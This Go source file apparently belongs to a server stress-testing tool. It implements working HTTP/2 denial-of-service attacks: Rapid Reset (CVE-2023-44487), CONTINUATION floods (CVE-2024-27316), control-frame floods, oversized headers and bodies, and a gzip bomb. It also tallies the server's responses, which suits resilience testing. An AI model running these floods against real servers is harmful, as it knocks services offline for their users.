package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"io"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

const floodConnections = 8

// flood does one thing on several connections for as long as they live, and begins anew when the server ends them.
func flood(ctx context.Context, t *target, n *tally, known bool, once func(*h2conn) error) {
	var wg sync.WaitGroup
	for range floodConnections {
		wg.Go(func() {
			for ctx.Err() == nil {
				c, err := t.h2(ctx, known, 65535)
				if err != nil {
					n.add("connections refused", 1)
					time.Sleep(100 * time.Millisecond)
					continue
				}
				stop := context.AfterFunc(ctx, func() { c.Close() })
				go io.Copy(io.Discard, c.Conn)
				for err == nil && ctx.Err() == nil {
					err = once(c)
				}
				if ctx.Err() == nil {
					n.add("connections ended", 1)
				}
				stop()
				c.Close()
			}
		})
	}
	wg.Wait()
}

// rapidReset is CVE-2023-44487: streams are begun and given up at once.
func rapidReset(known bool) func(context.Context, *target, *tally) {
	return func(ctx context.Context, t *target, n *tally) {
		flood(ctx, t, n, known, func(c *h2conn) error {
			for range 50 {
				id, err := c.get(held + "/held-1")
				if err != nil {
					return err
				}
				if err := c.fr.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
					return err
				}
			}
			n.add("streams", 50)
			return c.w.Flush()
		})
	}
}

// continuations is CVE-2024-27316: a header block without an end.
func continuations(ctx context.Context, t *target, n *tally) {
	flood(ctx, t, n, true, func(c *h2conn) error {
		c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next, BlockFragment: c.block("GET", "/version"), EndStream: true})
		for {
			for range 50 {
				// Not kept in the decoder's table, so that only the list itself would grow.
				c.fr.WriteContinuation(c.next, false, []byte("\x00\x01a\x01b"))
			}
			n.add("frames", 50)
			if err := c.w.Flush(); err != nil {
				return err
			}
		}
	})
}

// controlFrames makes the server answer, and reads nothing of it.
func controlFrames(ctx context.Context, t *target, n *tally) {
	var wg sync.WaitGroup
	for range floodConnections {
		wg.Go(func() {
			for ctx.Err() == nil {
				c, err := t.h2(ctx, true, 65535)
				if err != nil {
					n.add("connections refused", 1)
					time.Sleep(100 * time.Millisecond)
					continue
				}
				stop := context.AfterFunc(ctx, func() { c.Close() })
				for err == nil && ctx.Err() == nil {
					for range 50 {
						c.fr.WritePing(false, [8]byte{1})
						c.fr.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 16384})
						c.fr.WritePriority(1, http2.PriorityParam{StreamDep: 0, Weight: 1})
					}
					n.add("frames", 150)
					c.SetWriteDeadline(time.Now().Add(5 * time.Second))
					err = c.w.Flush()
				}
				if ctx.Err() == nil {
					n.add("connections ended", 1)
				}
				stop()
				c.Close()
			}
		})
	}
	wg.Wait()
}

// repeat does something in several goroutines again and again, and counts what came of it.
func repeat(ctx context.Context, workers int, n *tally, once func() string) {
	var wg sync.WaitGroup
	for range workers {
		wg.Go(func() {
			for ctx.Err() == nil {
				outcome := once()
				if ctx.Err() == nil {
					n.add(outcome, 1)
				}
			}
		})
	}
	wg.Wait()
}

func outcome(code int, err error) string {
	if err != nil {
		return "broken off"
	}
	return fmt.Sprint(code)
}

// hugeHeaders sends two MiB of them, in both versions of HTTP.
func hugeHeaders(ctx context.Context, t *target, n *tally) {
	value := strings.Repeat("x", 2<<20)
	repeat(ctx, 4, n, func() string {
		c := t.client(true)
		defer c.CloseIdleConnections()
		code, _, err := t.do(c, ctx, "GET", "/version", nil, "X-Huge", value)
		return "HTTP/2: " + outcome(code, err)
	})
}

// hugeBodies sends ten MiB, half of them without saying so before.
func hugeBodies(ctx context.Context, t *target, n *tally) {
	text := []byte(configMap("huge", 10<<20))
	c := t.client(true)
	defer c.CloseIdleConnections()
	repeat(ctx, 16, n, func() string {
		code, _, err := t.do(c, ctx, "POST", held, bytes.NewReader(text))
		if err == nil && code == 413 {
			code, _, err = t.do(c, ctx, "POST", held, io.MultiReader(bytes.NewReader(text)))
		}
		return outcome(code, err)
	})
}

// bombs sends a body that would become a GiB if it were unpacked.
func bombs(ctx context.Context, t *target, n *tally) {
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	zeroes := make([]byte, 1<<20)
	for range 1 << 10 {
		w.Write(zeroes)
	}
	w.Close()
	c := t.client(true)
	defer c.CloseIdleConnections()
	repeat(ctx, 16, n, func() string {
		code, _, err := t.do(c, ctx, "POST", held, bytes.NewReader(packed.Bytes()), "Content-Encoding", "gzip")
		return outcome(code, err)
	})
}
